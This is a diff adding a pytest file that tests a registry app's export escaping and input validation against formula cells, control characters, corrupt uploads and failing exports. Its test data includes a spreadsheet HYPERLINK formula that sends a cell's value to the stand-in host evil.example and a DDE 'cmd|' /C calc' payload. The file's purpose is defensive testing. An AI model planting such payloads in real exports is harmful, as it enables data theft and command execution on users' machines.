@@ -1,0 +1,276 @@
+"""Hostile input: formula cells in exports, control characters, unreadable bodies, failing exports and batches."""
+
+import asyncio
+import codecs
+import io
+import json
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import httpx
+import pytest
+import uvicorn
+from openpyxl import load_workbook
+from sqlalchemy import create_engine, text
+
+from tests.api.factories import import_records, org_unit, person
+from tests.conftest import Registry, uniq
+from tests.live import free_port
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+STARTS = ["=", "+", "-", "@", "'"]  # tab and CR are refused at input: see test_legacy_tab_and_cr_cells_are_escaped
+FORMULA = '=HYPERLINK("http://evil.example/?"&D2,"Bấm vào đây")'
+
+
+def _post(registry: Registry, kind: str, body: bytes, ctype: str) -> httpx.Response:
+    return registry.client.post(f"/api/v1/imports/{kind}", content=body, headers=registry.headers() | {"Content-Type": ctype})
+
+
+def _export(registry: Registry, kind: str, fmt: str) -> bytes:
+    r = registry.client.get(f"/api/v1/exports/{kind}", params={"format": fmt}, headers=registry.headers())
+    assert r.status_code == 200, r.text
+    return r.content
+
+
+def _hostile(registry: Registry) -> str:
+    """An org unit, statistics and persons whose texts begin with each formula character; the unit's code."""
+    unit = uniq("HX")
+    import_records(registry, "org-units", [org_unit(unit, name=f"{FORMULA} Xã")])
+    stats = [{"code": "population", "org_unit": unit, "period": str(2000 + i), "value": -5 - i, "source": f"{c}Cục {i}"}
+             for i, c in enumerate(STARTS)]
+    report = registry.import_lines("statistics", [json.dumps(s, ensure_ascii=False) for s in stats])
+    assert report["failed"] == 0, report
+    people = [person(f"{unit}-{i}", unit, full_name=f"{c}Nguyễn {i}",
+                     degrees=[{"level": "bachelor", "field": f"{c}SUM(1,2)", "awarded_on": "2007-06-30"}],
+                     trainings=[{"course": f"{c}cmd|' /C calc'!A0", "hours": 40, "completed_on": "2019-01-02"}])
+              for i, c in enumerate(STARTS)]
+    people.append(person(f"{unit}-x", unit, full_name=FORMULA))
+    report = import_records(registry, "persons", people)
+    assert report["failed"] == 0, report
+    return unit
+
+
+def _xlsx_texts(body: bytes) -> list[Any]:
+    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+class TestFormulaCells:
+    def test_csv_and_xlsx_cells_are_escaped_and_typed_as_text(self, fresh_registry: Any) -> None:
+        registry = fresh_registry()
+        _hostile(registry)
+        for kind in ("persons", "org-units", "statistics"):
+            rows = list(__import__("csv").reader(io.StringIO(_export(registry, kind, "csv").decode())))
+            cells = [c for row in rows[1:] for c in row]
+            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], kind
+            assert any(c.startswith("'=") for c in cells), kind
+            cells_x = _xlsx_texts(_export(registry, kind, "xlsx"))
+            assert [c.coordinate for c in cells_x if c.data_type == "f"] == [], kind
+            strings = [c.value for c in cells_x if c.data_type == "s"]
+            assert not [v for v in strings if v[:1] in ("=", "+", "@")], kind
+            assert any(v.startswith("'=") for v in strings), kind
+        persons = [c for row in __import__("csv").reader(io.StringIO(_export(registry, "persons", "csv").decode()))
+                   for c in row]
+        for c in STARTS:
+            assert f"'{c}Nguyễn {STARTS.index(c)}" in persons and f"'{c}SUM(1,2)" in persons
+            assert f"'{c}cmd|' /C calc'!A0" in persons
+        stats = _export(registry, "statistics", "csv").decode()
+        assert ",-5," in stats and "'-5" not in stats  # negative numbers stay numbers
+
+    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+    def test_export_import_export_is_byte_identical(self, fresh_registry: Any, fmt: str) -> None:
+        source = fresh_registry()
+        _hostile(source)
+        original = {k: _export(source, k, "jsonl") for k in ("org-units", "statistics", "persons")}
+        sheets = {k: _export(source, k, fmt) for k in original}
+        target = fresh_registry()
+        for kind in ("org-units", "statistics", "persons"):
+            r = _post(target, kind, sheets[kind], "text/csv" if fmt == "csv" else XLSX)
+            assert r.status_code == 200 and r.json()["failed"] == 0, r.text
+        for kind, body in original.items():
+            assert _export(target, kind, "jsonl") == body, kind
+        if fmt == "csv":
+            assert _export(target, "persons", "csv") == sheets["persons"]
+
+    def test_legacy_tab_and_cr_cells_are_escaped(self, fresh_registry: Any) -> None:
+        registry = fresh_registry()  # its own: other tests re-import the shared registry's export
+        unit = uniq("HT")
+        import_records(registry, "org-units", [org_unit(unit)])
+        import_records(registry, "persons", [person(f"{unit}-t", unit), person(f"{unit}-r", unit)])
+        engine = create_engine(registry.url)  # written before control characters were refused at input
+        with engine.begin() as conn:
+            for suffix, start in (("t", "\t"), ("r", "\r")):
+                conn.execute(text("UPDATE person_version SET full_name = :n WHERE person_id = "
+                                  "(SELECT id FROM person WHERE external_id = :e)"),
+                             {"n": f"{start}=1+1", "e": f"{unit}-{suffix}"})
+        engine.dispose()
+        body = _export(registry, "persons", "csv").decode()
+        assert ",'\t=1+1," in body and ',"\'\r=1+1",' in body
+        values = [c.value for c in _xlsx_texts(_export(registry, "persons", "xlsx")) if c.data_type == "s"]
+        # (XML reads a CR back as a line feed)
+        assert {v[1] for v in values if v[:1] == "'" and v.endswith("=1+1")} == {"\t", "\n"}
+        # re-imported, the restored value is refused (a control character), never stored as something else
+        csv_rows = [line for line in body.split("\r\n") if line.startswith(f"{unit}-t,")]
+        report = _post(registry, "persons", (body.split("\r\n")[0] + "\r\n" + "\r\n".join(csv_rows) + "\r\n").encode(),
+                       "text/csv").json()
+        assert {e["error"] for e in report["errors"]} == {"control_character"}, report
+
+
+class TestControlCharacters:
+    def test_import_line_api_and_export(self, fresh_registry: Any) -> None:
+        registry = fresh_registry()
+        unit = uniq("HC")
+        import_records(registry, "org-units", [org_unit(unit)])
+        lines = [json.dumps(person(f"{unit}-{i}", unit, full_name=name)) for i, name in
+                 enumerate(["Lê Văn A", "Bell\u0007Name", "Nul\u0000Name", "Lò Thị B", "C1\u0085x"])]
+        report = registry.import_lines("persons", lines)
+        assert report["created"] == 2, report
+        bad = {e["line"]: e for e in report["errors"]}
+        assert sorted(bad) == [2, 3, 5]
+        assert all(e["field"] == "full_name" and e["error"] == "control_character" for e in bad.values()), bad
+        assert "U+0007" in bad[2]["message"] and "U+0000" in bad[3]["message"]
+        r = registry.client.post("/api/v1/persons", json=person(f"{unit}-p", unit, full_name="Tab\tName"),
+                                 headers=registry.headers())
+        assert r.status_code == 422 and "full_name" in r.text, r.text
+        rec = person(f"{unit}-0", unit, full_name="Lê\u0007")
+        r = registry.client.put(f"/api/v1/persons/{unit}-0", json=rec, headers=registry.headers())
+        assert r.status_code == 422 and "full_name" in r.text, r.text
+        book = load_workbook(io.BytesIO(_export(registry, "persons", "xlsx")))
+        names = [row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
+        assert sorted(set(names)) == ["Lê Văn A", "Lò Thị B"]
+
+    def test_a_write_during_an_export_is_not_blocked(self, registry: Registry) -> None:
+        from app.api import bulk
+        from app.services.context import Actor
+
+        unit = uniq("HL")
+        import_records(registry, "org-units", [org_unit(unit)])
+        import_records(registry, "persons", [person(f"{unit}-{i}", unit) for i in range(3)])
+        response = bulk.export_records(kind=bulk.Kind.persons, actor=Actor("hostile-test", "admin"), known_at=None,
+                                       format=bulk.Format.jsonl, lang="en")
+        chunks = response.body_iterator
+        first = asyncio.run(chunks.__anext__())  # type: ignore[union-attr]
+        assert first
+        done: list[int] = []
+        writer = threading.Thread(target=lambda: done.append(registry.client.post(
+            "/api/v1/persons", json=person(f"{unit}-w", unit), headers=registry.headers()).status_code))
+        writer.start()
+        writer.join(timeout=15)
+        assert done == [201], "a write waited for a streaming export"
+        asyncio.run(chunks.aclose())  # type: ignore[union-attr]
+
+
+class TestImportsReportEveryLine:
+    def test_nested_nul_and_surrogate_lines(self, fresh_registry: Any) -> None:
+        registry = fresh_registry()
+        unit = uniq("HN")
+        import_records(registry, "org-units", [org_unit(unit)])
+        good = [json.dumps(person(f"{unit}-{i}", unit)) for i in range(3)]
+        nul = json.dumps(person(f"{unit}-n", unit, full_name="A\u0000B"))
+        surrogate = json.dumps(person(f"{unit}-s", unit, full_name="A\ud800B"))
+        report = registry.import_lines("persons", [good[0], "[" * 100_000, nul, good[1], surrogate, good[2]])
+        assert report["created"] == 3, report
+        codes = {e["line"]: e["error"] for e in report["errors"]}
+        assert codes == {2: "nested_too_deep", 3: "control_character", 5: "control_character"}, report
+        ids = {json.loads(line)["external_id"] for line in registry.export("persons").splitlines()}
+        assert ids == {f"{unit}-{i}" for i in range(3)}
+
+    def test_a_batch_that_fails_as_a_whole_is_written_line_by_line(self, fresh_registry: Any,
+                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
+        from sqlalchemy.exc import OperationalError
+
+        from app.services import person_batch
+
+        registry = fresh_registry()
+        unit = uniq("HB")
+        import_records(registry, "org-units", [org_unit(unit)])
+        real = person_batch.write
+
+        def write(session: Any, actor: Any, items: list[Any], *args: Any) -> Any:
+            if any(item.record.full_name == "Boom" for item in items):
+                raise OperationalError("INSERT", {}, Exception("disk I/O error"))
+            return real(session, actor, items, *args)
+
+        monkeypatch.setattr(person_batch, "write", write)
+        lines = [json.dumps(person(f"{unit}-{i}", unit, full_name="Boom" if i == 1 else "Lê Thị C")) for i in range(4)]
+        report = registry.import_lines("persons", lines)
+        assert (report["created"], report["failed"], report["lines"]) == (3, 1, 4), report
+        assert report["errors"] == [{"line": 2, "external_id": f"{unit}-1", "field": None, "error": "not_written",
+                                     "message": "not written: the database refused it"}]
+        ids = {json.loads(line)["external_id"] for line in registry.export("persons").splitlines()}
+        assert ids == {f"{unit}-0", f"{unit}-2", f"{unit}-3"}
+
+
+class TestUnreadableBodies:
+    def test_corrupt_xlsx_utf16_csv_and_huge_cell(self, fresh_registry: Any) -> None:
+        registry = fresh_registry()
+        unit = uniq("HU")
+        import_records(registry, "org-units", [org_unit(unit)])
+        header = "external_id,full_name,birth_date,gender,list,org_unit,category,start\n"
+        row = f"{unit}-1,Lê Văn A,1980-01-01,male,employments,{unit},cong_chuc,2010-01-01\n"
+        cases = [
+            (b"PK\x03\x04 not really a zip" + bytes(range(256)), XLSX, "invalid_xlsx"),
+            (codecs.BOM_UTF16_LE + (header + row).encode("utf-16-le"), "text/csv", "invalid_encoding"),
+            ((header + row + f"{unit}-2,{'A' * 128 * 1024 + 'B'},1980-01-01,male,,,,\n").encode(), "text/csv",
+             "cell_too_long"),
+        ]
+        for body, ctype, code in cases:
+            r = _post(registry, "persons", body, ctype)
+            assert r.status_code == 422, r.text
+            assert r.json()["code"] == code, r.text
+        assert registry.export("persons") == ""
+
+
+@contextmanager
+def _served(registry: Registry) -> Iterator[str]:
+    """The registry's app behind a real uvicorn (in this process, so monkeypatches apply)."""
+    port = free_port()
+    server = uvicorn.Server(uvicorn.Config(registry.client.app, host="127.0.0.1", port=port, log_level="critical"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 20
+    while not server.started and time.monotonic() < deadline:
+        time.sleep(0.05)
+    try:
+        yield f"http://127.0.0.1:{port}"
+    finally:
+        server.should_exit = True
+        thread.join(timeout=10)
+
+
+class TestFailingExport:
+    def test_a_failure_part_way_is_never_a_clean_200(self, fresh_registry: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+        from app.services import exports
+
+        registry = fresh_registry()
+        unit = uniq("HE")
+        import_records(registry, "org-units", [org_unit(unit)])
+        import_records(registry, "persons", [person(f"{unit}-{i}", unit) for i in range(4)])
+        real, calls = exports.build, []
+
+        def build(*args: Any, **kwargs: Any) -> Any:
+            calls.append(1)
+            if len(calls) % 3 == 2:  # the second batch of each export
+                raise RuntimeError("simulated failure")
+            return real(*args, **kwargs)
+
+        monkeypatch.setattr(exports, "CHUNK", 1)
+        monkeypatch.setattr(exports, "build", build)
+        with _served(registry) as base:
+            for fmt in ("jsonl", "csv", "xlsx"):
+                calls.clear()
+                try:
+                    r = httpx.get(f"{base}/api/v1/exports/persons", params={"format": fmt}, headers=registry.headers(),
+                                  timeout=30)
+                except httpx.HTTPError:
+                    continue  # the stream was aborted: the client cannot take it for a complete file
+                if fmt == "xlsx":
+                    assert r.status_code >= 500, (r.status_code, len(r.content))
+                    continue
+                last = r.text.rstrip("\r\n").rsplit("\n", 1)[-1]
+                assert "export_failed" in last and "incomplete" in last, (fmt, r.text[-300:])
+        monkeypatch.undo()
+        assert len(registry.export("persons").splitlines()) == 4
